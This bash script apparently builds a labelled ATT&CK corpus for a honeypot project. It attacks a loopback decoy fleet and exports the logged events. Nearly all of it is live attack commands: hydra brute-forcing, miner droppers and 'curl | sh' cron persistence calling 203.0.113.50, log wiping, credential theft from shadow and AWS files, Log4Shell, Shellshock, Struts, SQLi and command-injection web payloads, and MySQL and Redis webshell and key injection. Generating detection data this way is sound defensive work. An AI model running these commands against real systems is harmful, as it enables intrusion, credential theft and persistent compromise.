#!/usr/bin/env bash
# Regenerates the labelled ATT&CK corpus in crates/decnet-attack/corpus/:
# runs decnet serve on a loopback fleet, attacks it with real clients (nmap,
# hydra, ssh + command scripts, curl exploit paths, mysql, redis-cli,
# pymodbus, smbclient), one scenario at a time, and exports each scenario's
# events from /api/v1/logs as corpus/<name>.jsonl. The .labels files are
# written by hand (what an analyst assigns) and are not touched here.
#
# Not run by CI: the corpus is committed; the Rust test reads it.
# Loopback 127.0.90.0/24, API on 127.0.90.1:18790. Self-cleaning.
set -euo pipefail
cd "$(dirname "$0")/.."
NAME=attack-corpus.sh
OUT=crates/decnet-attack/corpus
mkdir -p "$OUT"

need=()
for t in nmap:nmap hydra:hydra sshpass:sshpass ssh:openssh-client mysql:mariadb-client \
         redis-cli:redis-tools smbclient:smbclient curl:curl; do
    command -v "${t%%:*}" >/dev/null 2>&1 || need+=("${t##*:}")
done
if [ ${#need[@]} -gt 0 ]; then
    apt-get update -qq || true
    apt-get install -y -qq --no-install-recommends "${need[@]}" >/dev/null
fi
python3 -c 'import pymodbus' 2>/dev/null || pip install -q pymodbus || pip install -q --break-system-packages pymodbus

[ -n "${DECNET_BIN:-}" ] || cargo build -q -p decnet
BIN=${DECNET_BIN:-target/debug/decnet}
WORK=$(mktemp -d /tmp/attack-corpus.XXXXXX)
PID=""
cleanup() {
    if [ -n "$PID" ]; then kill "$PID" 2>/dev/null || true; wait "$PID" 2>/dev/null || true; fi
    [ -n "${KEEP:-}" ] || rm -rf "$WORK"
}
trap cleanup EXIT

WEB=127.0.90.10
DB=127.0.90.11
PLC=127.0.90.12
WIN=127.0.90.13
API=127.0.90.1:18790
cat >"$WORK/fleet.ini" <<INI
[general]
net = 127.0.90.0/24
gw = 127.0.90.1
mode = loopback

[web01]
ip = $WEB
services = ssh, http, telnet

[db01]
ip = $DB
services = ssh, mysql, redis

[db01.mysql]
password = password

[plc01]
ip = $PLC
services = conpot

[win01]
ip = $WIN
services = smb, rdp
distro = windows2019
INI

export DECNET_ADMIN_PASSWORD=corpus-admin-pw
"$BIN" serve --config "$WORK/fleet.ini" --data-dir "$WORK/data" --api "$API" >"$WORK/serve.log" 2>&1 &
PID=$!
for _ in $(seq 1 150); do
    (exec 3<>"/dev/tcp/$WEB/22") 2>/dev/null && (exec 3<>"/dev/tcp/${API%:*}/${API#*:}") 2>/dev/null && break
    sleep 0.1
done
TOKEN=$(curl -sf "http://$API/api/v1/auth/login" -H 'Content-Type: application/json' \
    -d "{\"username\":\"admin\",\"password\":\"$DECNET_ADMIN_PASSWORD\"}" | python3 -c 'import json,sys; print(json.load(sys.stdin)["access_token"])')

now() { python3 -c 'import datetime; print(datetime.datetime.now(datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%fZ"))'; }

# scenario NAME FUNCTION: runs FUNCTION alone in time and exports its events.
scenario() {
    local name=$1; shift
    echo "== $name"
    sleep 1
    local start end
    start=$(now)
    "$@" >"$WORK/$name.out" 2>&1 || true
    sleep 2
    end=$(now)
    python3 - "$API" "$TOKEN" "$start" "$end" "$OUT/$name.jsonl" <<'PY'
import json, sys, urllib.parse, urllib.request
api, token, start, end, out = sys.argv[1:]
events, offset = [], 0
while True:
    q = urllib.parse.urlencode({"since": start, "until": end, "limit": 1000, "offset": offset})
    req = urllib.request.Request(f"http://{api}/api/v1/logs?{q}", headers={"Authorization": f"Bearer {token}"})
    page = json.load(urllib.request.urlopen(req))
    events += page["data"]
    offset += len(page["data"])
    if not page["data"] or offset >= page["total"]:
        break
events.sort(key=lambda e: (e["ts"], e["id"]))
with open(out, "w") as f:
    for e in events:
        f.write(json.dumps(e, sort_keys=True) + "\n")
print(f"  {len(events)} events -> {out}")
PY
}

ssh_script() { # HOST USER PASS: runs stdin's lines as one interactive shell session
    sshpass -p "$3" ssh -tt -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
        -o PreferredAuthentications=password -o PubkeyAuthentication=no "$2@$1" <<<"$(cat; echo exit)"
}

printf '%s\n' 123456 password qwerty letmein dragon monkey 12345678 iloveyou >"$WORK/pw.txt"
printf '%s\n' admin oracle postgres ubuntu test deploy git jenkins >"$WORK/users.txt"
printf '%s\n' alice@corp.example:Summer2023 bob@corp.example:P4ssw0rd! carol@corp.example:qwerty12 \
    dave@corp.example:Welcome1 erin@corp.example:hunter2 frank@corp.example:Dragon!99 \
    grace@corp.example:Passw0rd heidi@corp.example:iloveyou7 ivan@corp.example:Spring2024 >"$WORK/combo.txt"

nmap_scan() { nmap -sV -Pn -n -p 21,22,23,80,102,445,502,3306,3389,6379 "$WEB" "$DB" "$PLC" "$WIN"; }
hydra_guess() { timeout 120 hydra -l root -P "$WORK/pw.txt" -t 4 -I "ssh://$WEB"; }
hydra_spray() { timeout 120 hydra -L "$WORK/users.txt" -p 'Winter2025!' -t 4 -I "ssh://$WEB"; }
hydra_stuff() { timeout 120 hydra -C "$WORK/combo.txt" -t 4 -I "ssh://$WEB"; }

ssh_recon() {
    ssh_script "$WEB" root admin <<'SH'
uname -a
id
whoami
cat /etc/os-release
cat /etc/passwd
ip a
netstat -antp
ps aux
ls -la /root
which gcc wget curl python3
w
SH
}

ssh_dropper() {
    ssh_script "$WEB" root admin <<'SH'
cd /tmp
wget http://203.0.113.50/xmrig.tar.gz
curl -O http://203.0.113.50/run.sh
chmod +x run.sh
./run.sh
./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ --donate-level 1 -B
SH
}

ssh_persist() {
    ssh_script "$WEB" root admin <<'SH'
mkdir -p ~/.ssh
echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 attacker@kali" >> ~/.ssh/authorized_keys
(crontab -l 2>/dev/null; echo "*/5 * * * * curl -s http://203.0.113.50/u.sh | sh") | crontab -
printf '[Unit]\nDescription=kworker\n[Service]\nExecStart=/tmp/.k/kworker\n' > /etc/systemd/system/kworker.service
systemctl enable kworker.service
useradd -m -s /bin/bash sysupdate
echo '/tmp/.k/kworker &' >> ~/.bashrc
SH
}

ssh_evasion() {
    ssh_script "$WEB" root admin <<'SH'
unset HISTFILE
mkdir /tmp/.k
echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjUwL3Muc2ggfCBzaAo= | base64 -d | sh
setenforce 0
iptables -F
rm -rf /var/log/auth.log /var/log/wtmp
history -c
SH
}

ssh_creds() {
    ssh_script "$WEB" root admin <<'SH'
cat /etc/shadow
cat ~/.bash_history
cat /root/.aws/credentials
cat ~/.ssh/id_rsa
find / -name "*.pem" 2>/dev/null
SH
}

ssh_lateral() {
    ssh_script "$WEB" root admin <<'SH'
cat /etc/hosts
arp -a
ssh root@127.0.90.11
SH
    ssh_script "$DB" root admin <<'SH'
hostname
SH
}

web_exploits() {
    local b="http://$WEB"
    curl -s -o /dev/null -A '${jndi:ldap://203.0.113.50:1389/Exploit}' "$b/"
    curl -s -o /dev/null --path-as-is "$b/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"
    curl -s -o /dev/null "$b/download.php?file=../../../../etc/passwd"
    curl -s -o /dev/null -H "Content-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}" "$b/struts2-showcase/index.action"
    curl -s -o /dev/null --data '<?php echo md5("phpunit"); ?>' "$b/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"
    curl -s -o /dev/null -A '() { :; }; /bin/bash -c "wget http://203.0.113.50/s -O /tmp/s"' "$b/cgi-bin/status"
    curl -s -o /dev/null "$b/product.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users--"
    curl -s -o /dev/null "$b/cgi-bin/ping.cgi?ip=127.0.0.1;wget+http://203.0.113.50/mozi.m"
}

web_secrets() {
    curl -s -o /dev/null "http://$WEB/.env"
    curl -s -o /dev/null "http://$WEB/.git/config"
    curl -s -o /dev/null -A 'sqlmap/1.7.2#stable (https://sqlmap.org)' "http://$WEB/index.php?id=1"
}

dirbust() {
    for p in admin login wp-admin wp-login.php administrator phpmyadmin backup backups old test dev api \
             console manager server-status config.php db.sql dump.sql uploads images cgi-bin .htaccess \
             robots.txt sitemap.xml shell.php cmd.php; do
        curl -s -o /dev/null "http://$WEB/$p"
    done
}

mysql_attack() {
    mysql -h "$DB" -u root -ppassword --skip-ssl -e "select @@version; show databases;" 2>&1 || true
    mysql -h "$DB" -u root -ppassword --skip-ssl -e "select load_file('/etc/passwd');" 2>&1 || true
    mysql -h "$DB" -u root -ppassword --skip-ssl -e "select * from wordpress.wp_users;" 2>&1 || true
    mysql -h "$DB" -u root -ppassword --skip-ssl -e "select '<?php system(\$_GET[\"c\"]); ?>' into outfile '/var/www/html/c.php';" 2>&1 || true
}

redis_ssh_key() {
    redis-cli -h "$DB" config set dir /root/.ssh
    redis-cli -h "$DB" config set dbfilename authorized_keys
    redis-cli -h "$DB" set k "\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 attacker@kali\n\n"
    redis-cli -h "$DB" save
    redis-cli -h "$DB" info server
}

redis_cron_wipe() {
    redis-cli -h "$DB" config set dir /var/spool/cron/crontabs
    redis-cli -h "$DB" config set dbfilename root
    redis-cli -h "$DB" set x "\n*/1 * * * * curl -s http://203.0.113.50/r.sh | sh\n"
    redis-cli -h "$DB" save
    redis-cli -h "$DB" slaveof 203.0.113.50 21000
    redis-cli -h "$DB" module load /tmp/exp.so
    redis-cli -h "$DB" flushall
}

modbus_writes() {
    python3 - "$PLC" <<'PY'
import sys
from pymodbus.client import ModbusTcpClient
c = ModbusTcpClient(sys.argv[1], port=502)
c.connect()
for addr in range(0, 24, 2):
    c.read_holding_registers(addr, count=2)
c.write_coil(1, True)
c.write_register(10, 1500)
c.write_registers(20, [1, 2, 3])
c.close()
PY
}

smb_admin() {
    smbclient -L "//$WIN" -N || true
    smbclient "//$WIN/C\$" -U 'Administrator%Passw0rd!' -c 'ls' || true
}

scenario nmap_service_scan nmap_scan
scenario hydra_ssh_guessing hydra_guess
scenario hydra_ssh_spraying hydra_spray
scenario hydra_ssh_stuffing hydra_stuff
scenario ssh_recon ssh_recon
scenario ssh_dropper_miner ssh_dropper
scenario ssh_persistence ssh_persist
scenario ssh_evasion ssh_evasion
scenario ssh_credential_hunt ssh_creds
scenario ssh_lateral ssh_lateral
scenario web_exploits web_exploits
scenario web_secrets_and_scanner web_secrets
scenario web_dirbust dirbust
scenario mysql_attack mysql_attack
scenario redis_ssh_key redis_ssh_key
scenario redis_cron_wipe redis_cron_wipe
scenario modbus_writes modbus_writes
scenario smb_admin_share smb_admin
echo "corpus written to $OUT"
